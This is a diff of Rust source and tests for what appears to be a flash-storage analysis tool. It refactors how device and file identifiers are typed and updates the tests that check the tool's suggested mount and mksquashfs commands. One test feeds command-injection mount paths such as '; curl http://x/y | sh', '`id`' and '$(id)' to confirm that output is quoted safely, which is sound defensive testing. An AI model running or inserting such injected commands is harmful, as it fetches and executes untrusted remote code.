@@ -3,14 +3,14 @@
 
 use flashscope_analysis::Evidence;
 use flashscope_analysis::findings::Finding;
-use flashscope_cachesim::{FileId, Kernel, PAGE_BYTES};
+use flashscope_cachesim::{Kernel, PAGE_BYTES};
 use flashscope_output::quote;
 use flashscope_predict::{
     Advice, Change, ErrorBar, Off, Predictor, Recorded, Row, Seen, Silent, TRIED_KIB, Workload, advise, recorded_knob,
     silent,
 };
 use flashscope_report::terminal::text;
-use flashscope_trace::{Device, Facts, Trace};
+use flashscope_trace::{Device, Facts, FileId, Trace};
 use schemars::JsonSchema;
 use serde::Serialize;
 
@@ -395,7 +395,7 @@ struct FileStorage {
 }
 
 impl FileStorage {
-    fn of(facts: &Facts, devices: impl Iterator<Item = u32>) -> FileStorage {
+    fn of(facts: &Facts, devices: impl Iterator<Item = Device>) -> FileStorage {
         let mut storage = FileStorage {
             knobs: Vec::new(),
             shared: false,
@@ -404,7 +404,7 @@ impl FileStorage {
             ubifs: Vec::new(),
             odd: Vec::new(),
         };
-        let devices: std::collections::BTreeSet<String> = devices.map(|device| Device(device).to_string()).collect();
+        let devices: std::collections::BTreeSet<String> = devices.map(|device| device.to_string()).collect();
         let bdis: Vec<&str> = facts.bdi.iter().filter_map(|bdi| bdi.name.as_deref()).collect();
         for mount in &facts.mounts {
             let Some(device) = mount.device.as_deref().filter(|&device| devices.contains(device)) else { continue };
@@ -563,12 +563,13 @@ fn diagnosis(silent: &Silent, labels: &predict::Labels) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use flashscope_cachesim::{Access, FileId, Kernel, NodeRuns, OpenId};
+    use flashscope_cachesim::{Access, Kernel, NodeRuns, OpenId};
     use flashscope_predict::Storage as Below;
     use flashscope_predict::{Call, TaskAccess, Workload};
+    use flashscope_trace::FileId;
     use serde_json::{Value, json};
 
-    const FILE: FileId = FileId { device: Some(14), inode: 5 };
+    const FILE: FileId = FileId { device: Some(Device(14)), inode: 5 };
 
     fn whole_file() -> Workload {
         let mut workload = Workload { sizes: [(FILE, 200 * PAGE_BYTES)].into(), ..Workload::default() };
@@ -604,7 +605,7 @@ mod tests {
         workload.nodes.flash_pages = Some(2.0);
         let predictor = Predictor::new(&workload, Below::new(Kernel::V6_1));
         let advice = &advise(&predictor, 0, Off::default())[0];
-        let storage = FileStorage::of(&Facts::of(&facts), [14].into_iter());
+        let storage = FileStorage::of(&Facts::of(&facts), [Device(14)].into_iter());
         let lines = lines(advice, &storage);
         let words = |line: &str| lines.iter().any(|one| one.ends_with(line));
         assert!(words(" mount -o remount,bulk_read /") && words("rootflags=bulk_read"), "{lines:?}");
@@ -630,7 +631,7 @@ mod tests {
         };
         let of = |change: Change, facts: &Value| {
             let advice = Advice { change, ..some_advice() };
-            lines(&advice, &FileStorage::of(&Facts::of(facts), [14].into_iter()))
+            lines(&advice, &FileStorage::of(&Facts::of(facts), [Device(14)].into_iter()))
         };
         let attack = "; curl http://x/y | sh";
         for target in [format!("/mnt/{attack}"), "/mnt/`id`".into(), "/mnt/$(id)".into(), "/mnt/a b' ; x".into()] {
@@ -659,9 +660,9 @@ mod tests {
     #[test]
     fn squashfs_comes_with_the_command_and_its_risk() {
         let workload = whole_file();
-        let below = Below { squashfs: [(14, 8 << 10)].into(), ..Below::new(Kernel::V6_1) };
+        let below = Below { squashfs: [(Device(14), 8 << 10)].into(), ..Below::new(Kernel::V6_1) };
         let advice = advise(&Predictor::new(&workload, below), 0, Off::default());
-        let storage = FileStorage::of(&Facts::default(), [14].into_iter());
+        let storage = FileStorage::of(&Facts::default(), [Device(14)].into_iter());
         let one = advice.last().expect("larger blocks");
         assert!(lines(one, &storage)[0].starts_with("mksquashfs ROOT IMAGE -b 131072"), "{advice:?}");
         assert!(gain(one).starts_with("7 blocks") && gain(one).contains("instead of 100"), "{}", gain(one));
